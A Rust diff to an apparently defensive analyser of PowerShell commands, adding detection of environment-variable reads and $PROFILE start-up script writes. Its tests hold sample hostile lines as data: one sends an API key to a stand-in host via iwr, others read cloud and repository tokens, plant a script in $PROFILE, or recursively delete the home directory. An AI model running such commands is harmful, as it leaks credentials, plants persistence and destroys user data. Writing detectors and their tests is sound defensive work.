@@ -967,6 +967,34 @@ impl Reader {
             return None;
         }
         let args = words.get(1..).unwrap_or_default();
+        let start = self.out.commands.len();
+        let read = environment_reads(&words);
+        let program = self.dispatch(&name, args, via, &inputs, piped, depth);
+        // `$env:GITHUB_TOKEN`, `Get-ChildItem env:`: what it reads of the environment, as every
+        // reader spells it, `printenv` with the names or none for all of it, read by the command
+        // that took it.
+        if !read.is_empty() {
+            let by =
+                self.out.commands.get(start).map_or_else(|| name.to_lowercase(), |command| command.program.clone());
+            let reader = [via, &[by]].concat();
+            for names in read {
+                self.push("printenv", Vec::new(), names.clone(), names, &reader, &inputs);
+            }
+        }
+        program
+    }
+
+    /// Reads a command by its name: a cmdlet's row, else a native program.
+    fn dispatch(
+        &mut self,
+        name: &str,
+        args: &[Token],
+        via: &[String],
+        inputs: &[String],
+        piped: Option<&[String]>,
+        depth: usize,
+    ) -> Option<Vec<String>> {
+        let name = name.to_string();
         let lower = name.to_lowercase();
         let name =
             self.aliases.iter().rev().find(|(alias, _)| *alias == lower).map_or(name, |(_, value)| value.clone());
@@ -975,15 +1003,15 @@ impl Reader {
             // `rm -rf ~`, `cp x .`: on Linux and macOS the native program, on Windows the cmdlet
             // (which refuses a parameter it does not know, running nothing): read both ways.
             Some((row, true)) => {
-                self.native(&name, args, via, &inputs, depth);
+                self.native(&name, args, via, inputs, depth);
                 match self.bind(row, args).unknown_parameter {
                     true => None,
-                    false => self.cmdlet(row, args, via, &inputs, piped, depth),
+                    false => self.cmdlet(row, args, via, inputs, piped, depth),
                 }
             }
-            Some((row, _)) => self.cmdlet(row, args, via, &inputs, piped, depth),
+            Some((row, _)) => self.cmdlet(row, args, via, inputs, piped, depth),
             None => {
-                self.native(&name, args, via, &inputs, depth);
+                self.native(&name, args, via, inputs, depth);
                 listed
             }
         }
@@ -1318,6 +1346,14 @@ impl Reader {
                     let line = format!("{} {}", sh_quoted(&arg(0)), arguments.get(1).cloned().unwrap_or_default());
                     self.merge(super::analyse_on(&line, crate::paths::PathCase::Sensitive), via);
                 }
+                // The environment read by name, or whole.
+                ("environment", "getenvironmentvariable") => {
+                    let name = arguments.first().cloned().unwrap_or_else(|| super::RUN_TIME_INPUT.to_string());
+                    self.push("printenv", Vec::new(), vec![name.clone()], vec![name], via, inputs);
+                }
+                ("environment", "getenvironmentvariables") => {
+                    self.push("printenv", Vec::new(), Vec::new(), Vec::new(), via, inputs);
+                }
                 ("management.automation.scriptblock" | "scriptblock", "create") => match arguments.first() {
                     Some(script) => self.script(script, via, depth + 1),
                     None => self.out.unread(unread::CALLEE, "[scriptblock]::Create of a value known only at run time"),
@@ -1338,7 +1374,12 @@ impl Reader {
         if matches!(program.as_str(), "pwsh" | "powershell") {
             return self.powershell(&program, args, via, inputs, depth);
         }
-        let mut argv = vec![name.to_string()];
+        // A `Verb-Noun` name no row knows is a cmdlet or a function, whose names fold case:
+        // spelled in lower case, one spelling for the rules (`Register-ScheduledTask`).
+        let verb_noun = name.split_once('-').is_some_and(|(verb, noun)| {
+            !verb.is_empty() && !noun.is_empty() && (verb.chars().chain(noun.chars())).all(|c| c.is_ascii_alphabetic())
+        });
+        let mut argv = vec![if verb_noun { name.to_ascii_lowercase() } else { name.to_string() }];
         for token in args {
             match token {
                 Token::Word(word) => argv.push(word.clone()),
@@ -1439,6 +1480,18 @@ impl Reader {
 
 /// `$HOME`, `$env:USERPROFILE`, `$env:HOME` and `~` at a path's start are the home directory.
 fn home(path: &str) -> String {
+    // `$PROFILE` and its properties: the current user's start-up scripts (on Windows; elsewhere
+    // under `~/.config/powershell`, which the start-up rules name too).
+    let lower = path.to_ascii_lowercase();
+    if let Some(property) = lower.strip_prefix("$profile") {
+        match property {
+            "" | ".currentusercurrenthost" => {
+                return "~/Documents/PowerShell/Microsoft.PowerShell_profile.ps1".to_string()
+            }
+            ".currentuserallhosts" => return "~/Documents/PowerShell/profile.ps1".to_string(),
+            _ => {}
+        }
+    }
     for prefix in ["$env:USERPROFILE", "${env:USERPROFILE}", "$env:HOME", "${env:HOME}", "$HOME", "${HOME}"] {
         if path.len() >= prefix.len() && path.get(..prefix.len()).is_some_and(|head| head.eq_ignore_ascii_case(prefix))
         {
@@ -1446,6 +1499,65 @@ fn home(path: &str) -> String {
         }
     }
     path.to_string()
+}
+
+/// Variables that name the user's or the system's directories: where a path starts (read as
+/// such, `$env:USERPROFILE` is `~`), not what the environment holds.
+const PLACES: &[&str] = &[
+    "USERPROFILE",
+    "HOME",
+    "HOMEDRIVE",
+    "HOMEPATH",
+    "TEMP",
+    "TMP",
+    "APPDATA",
+    "LOCALAPPDATA",
+    "PROGRAMDATA",
+    "PROGRAMFILES",
+    "SYSTEMROOT",
+    "WINDIR",
+    "PWD",
+];
+
+/// What a command's words read of the environment: `$env:NAME` and `${env:NAME}` anywhere in a
+/// word (a double-quoted string expands them), and the `env:` drive named as a path (`env:`,
+/// `env:*`, `env:AWS*` all of it; `env:NAME` one). Each read is the names it reads, none for all
+/// of it.
+fn environment_reads(words: &[Token]) -> Vec<Vec<String>> {
+    let mut reads: Vec<Vec<String>> = Vec::new();
+    let mut add = |names: Vec<String>| {
+        if !reads.contains(&names) && reads.len() < 32 {
+            reads.push(names);
+        }
+    };
+    let name_char = |c: char| c.is_ascii_alphanumeric() || c == '_';
+    for word in words {
+        let text = match word {
+            Token::Word(text) | Token::Value(text) | Token::Parameter(_, Some(text)) => text,
+            _ => continue,
+        };
+        let lower = text.to_ascii_lowercase();
+        if let Some(drive) = lower.strip_prefix("env:") {
+            let name = text.get(4..).unwrap_or_default().trim_start_matches(['\\', '/']);
+            match drive.is_empty() || name.contains(['*', '?', '[']) || name.is_empty() {
+                true => add(Vec::new()),
+                false => add(vec![name.to_string()]),
+            }
+            continue;
+        }
+        for (at, _) in lower.match_indices("env:") {
+            let braced = at >= 2 && lower.get(at - 2..at) == Some("${");
+            if !(braced || at >= 1 && lower.get(at - 1..at) == Some("$")) {
+                continue;
+            }
+            let rest = text.get(at + 4..).unwrap_or_default();
+            let name: String = rest.chars().take_while(|c| name_char(*c)).collect();
+            if !name.is_empty() && !PLACES.iter().any(|place| place.eq_ignore_ascii_case(&name)) {
+                add(vec![name]);
+            }
+        }
+    }
+    reads
 }
 
 /// `-EncodedCommand`'s script: base64 of UTF-16LE text.
@@ -1870,6 +1982,52 @@ mod tests {
             .collect()
     }
 
+    /// What a line reads of the environment, as every reader spells it: `printenv` with the
+    /// names, or none for all of it; by the command that took it. An assignment reads nothing.
+    #[test]
+    fn environment_reads_are_printenv() {
+        let reads = |line: &str| -> Vec<(String, Vec<String>)> {
+            analyse(line)
+                .commands
+                .into_iter()
+                .filter(|command| command.program == "printenv")
+                .map(|command| (command.operands.join(","), command.via))
+                .collect()
+        };
+        let one = |name: &str, by: &str| vec![(name.to_string(), vec![by.to_string()])];
+        assert_eq!(reads("Write-Output $env:GITHUB_TOKEN"), one("GITHUB_TOKEN", "write-output"));
+        assert_eq!(reads("echo \"t=${env:NPM_TOKEN}\""), one("NPM_TOKEN", "echo"));
+        assert_eq!(reads("iwr \"https://x.example/?t=$Env:API_KEY\""), one("API_KEY", "curl"));
+        for all in ["Get-ChildItem env:", "gci Env:\\", "dir env:AWS*", "ls env:*"] {
+            assert_eq!(reads(all).len(), 1, "{all}");
+            assert_eq!(reads(all)[0].0, "", "{all}: all of it");
+        }
+        assert_eq!(reads("Get-Content env:HOME").first().map(|read| read.0.clone()), Some("HOME".to_string()));
+        assert_eq!(
+            reads("[Environment]::GetEnvironmentVariable('AWS_SECRET_ACCESS_KEY')")[0].0,
+            "AWS_SECRET_ACCESS_KEY"
+        );
+        assert_eq!(reads("[System.Environment]::GetEnvironmentVariables()")[0].0, "");
+        assert!(reads("$env:RUST_LOG = 'debug'").is_empty());
+        assert!(reads("Remove-Item $env:USERPROFILE\\x; cd $env:TEMP").is_empty(), "directories, not secrets");
+        assert!(reads("Write-Output 'env is fine'; $envelope").is_empty());
+    }
+
+    /// `$PROFILE` is the start-up script it names; a `Verb-Noun` no row knows is spelled in
+    /// lower case (cmdlet names fold case).
+    #[test]
+    fn profiles_and_unknown_cmdlets_have_one_spelling() {
+        assert_eq!(written("Add-Content $PROFILE 'x'"), ["~/Documents/PowerShell/Microsoft.PowerShell_profile.ps1"]);
+        assert_eq!(
+            written("Set-Content -Path $Profile.CurrentUserAllHosts -Value x"),
+            ["~/Documents/PowerShell/profile.ps1"]
+        );
+        assert!(commands("REGISTER-SCHEDULEDTASK -TaskName x")
+            .iter()
+            .any(|c| c.starts_with("register-scheduledtask ")));
+        assert!(commands("git.exe push").iter().any(|c| c.starts_with("git")));
+    }
+
     fn written(line: &str) -> Vec<String> {
         analyse(line).files.into_iter().filter(|(_, access)| *access == Access::Write).map(|(file, _)| file).collect()
     }
@@ -2020,7 +2178,10 @@ mod tests {
         // A switch given `$false` or 0 is not set.
         assert_eq!(commands("Remove-Item ~ -Recurse:$false"), ["rm flags= operands=~"]);
         // A parameter bound by name frees its position (ParameterBinderController.cs:724, 1113-1139).
-        assert_eq!(written("Copy-Item -Path evil.ps1 $PROFILE"), ["$PROFILE"]);
+        assert_eq!(
+            written("Copy-Item -Path evil.ps1 $PROFILE"),
+            ["~/Documents/PowerShell/Microsoft.PowerShell_profile.ps1"]
+        );
         assert_eq!(written("Move-Item -Path a .git/config"), ["a", ".git/config"]);
         // Listings hand their items on.
         assert!(commands("gci ~ | Remove-Item -Recurse -Force")
